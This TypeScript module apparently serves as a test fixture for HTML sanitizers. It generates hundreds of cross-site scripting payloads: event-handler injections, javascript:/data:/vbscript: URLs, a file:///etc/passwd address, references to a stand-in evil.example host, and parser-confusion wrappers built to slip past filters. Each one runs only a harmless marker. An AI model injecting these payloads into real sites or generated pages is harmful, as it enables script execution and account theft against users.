/**
 * Cross-site scripting payloads. Any page that doesn't escape or sanitize them runs the script
 * `top.attacked=1`.
 */

const RUN = 'top.attacked=1';

const EVENTS = [
  ...['onload', 'onerror', 'onclick', 'onmouseover', 'onfocus', 'onbegin', 'onend', 'ontoggle', 'onstart'],
  ...['onanimationstart', 'ontransitionend', 'onpointerenter', 'onwheel', 'onscroll', 'onbeforeinput'],
  ...['oncut', 'onpaste', 'ondrag', 'onresize', 'onhashchange', 'onpageshow', 'onbeforematch'],
];

const CARRIERS = [
  (handler: string) => `<img src=x ${handler}>`,
  (handler: string) => `<svg ${handler}><animate attributeName=x dur=1s ${handler}></svg>`,
  (handler: string) => `<p ${handler} tabindex=0 autofocus>Sit</p>`,
  (handler: string) => `<details open ${handler}><summary>Sit</summary></details>`,
  (handler: string) => `<a href="/en" ${handler}>Sit</a>`,
  (handler: string) => `<table ${handler}><tr><td ${handler}>Sit</td></tr></table>`,
];

const HANDLERS = (event: string): string[] => [
  `${event}=${RUN}`,
  `${event}="${RUN}"`,
  `/${event.toUpperCase()}='${RUN}'`,
];

/** URLs that run a script or open a different site than they appear to. */
export const HOSTILE_ADDRESSES: readonly string[] = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  ` javascript:${RUN}`,
  `\u0001javascript:${RUN}`,
  `java\nscript:${RUN}`,
  `java\tscript:${RUN}`,
  `java\u0000script:${RUN}`,
  `javascript\n:${RUN}`,
  `javascript://example.com/%0a${RUN}`,
  `javascript:"/*\\"/*'/*\`/*--></script>"/${RUN}`,
  `jav&#x61;script:${RUN}`,
  `&#106;avascript&colon;${RUN}`,
  `vbscript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `data:text/html;base64,PHNjcmlwdD50b3AuYXR0YWNrZWQ9MTwvc2NyaXB0Pg==`,
  `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${RUN}"/>`,
  'blob:https://example.com/1',
  'file:///etc/passwd',
  'filesystem:https://example.com/x',
  'view-source:javascript:1',
  '//evil.example',
  '/\\evil.example',
  '\\\\evil.example',
  `"><script>${RUN}</script>`,
  `' onerror='${RUN}`,
  `" onerror="${RUN}`,
  `x" autofocus onfocus="${RUN}" y="`,
  `https://evil.example/"onmouseover="${RUN}`,
  `/x.webp" onload="${RUN}`,
  `/x.webp') ; background:url("javascript:${RUN}`,
];

const ELEMENTS_WITH_ADDRESS = [
  (address: string) => `<a href="${address}">Sit</a>`,
  (address: string) => `<img src="${address}" alt="Sit">`,
  (address: string) => `<iframe src="${address}"></iframe>`,
  (address: string) => `<form action="${address}"><button formaction="${address}">Sit</button></form>`,
];

/** Markup that wraps an element to hide it from parsers that don't read HTML exactly like browsers. */
const DISGUISES = [
  (html: string) => html,
  (html: string) => `</title></textarea></style></noscript></template>${html}`,
  (html: string) => `"'>--><!---->]]>${html}`,
  (html: string) => `<!--><p title="-->">${html}`,
  (html: string) => `<svg></p><style><a id="</style>${html}">`,
  (html: string) => `<math><mtext><table><mglyph><style><!--</style>${html}`,
  (html: string) => `<form><math><mtext></form><form><mglyph><style></math>${html}`,
  (html: string) => `<noscript><p title="</noscript>${html}">`,
  (html: string) => `<select><template><style><!--</style>${html}-->`,
  (html: string) => `<p title='${html}'>${html}`,
  (html: string) => `<xmp><p title="</xmp>${html}">`,
  (html: string) => `<a href="</a>${html}">`,
  (html: string) => html.replaceAll('<', '<\u0000'),
  (html: string) => html.replaceAll('<', '\u00adC<'),
  (html: string) => html.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
];

const ELEMENTS = [
  `<script>${RUN}</script>`,
  `<SCRIPT SRC=data:,${RUN}></SCRIPT>`,
  `<script/x>${RUN}</script/x>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x></svg>`,
  `<svg><set attributeName=href to=javascript:${RUN}><a href="#">x</a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg' onload='${RUN}'/>#x"></svg>`,
  `<math><a xlink:href="javascript:${RUN}">x</a></math>`,
  `<iframe srcdoc="<script>${RUN}</script>"></iframe>`,
  `<object data="data:text/html,<script>${RUN}</script>"></object>`,
  `<embed src="javascript:${RUN}">`,
  `<base href="https://evil.example/">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${RUN}">`,
  `<link rel="stylesheet" href="https://evil.example/x.css">`,
  `<style>@import "https://evil.example/x.css";</style>`,
  `<p style="background:url(javascript:${RUN});animation:x">Sit</p>`,
  `<input autofocus onfocus=${RUN}>`,
  `<template shadowrootmode=open><script>${RUN}</script></template>`,
];

/** Hundreds of HTML payloads that try to run a script. */
export const ATTACKS: readonly string[] = [
  ...EVENTS.flatMap((event, index) =>
    CARRIERS.flatMap((carrier) =>
      HANDLERS(event)
        .slice(0, 1 + (index % 3))
        .map(carrier),
    ),
  ),
  ...HOSTILE_ADDRESSES.flatMap((address) => ELEMENTS_WITH_ADDRESS.map((element) => element(address))),
  ...ELEMENTS.flatMap((element) => DISGUISES.map((disguise) => disguise(element))),
];
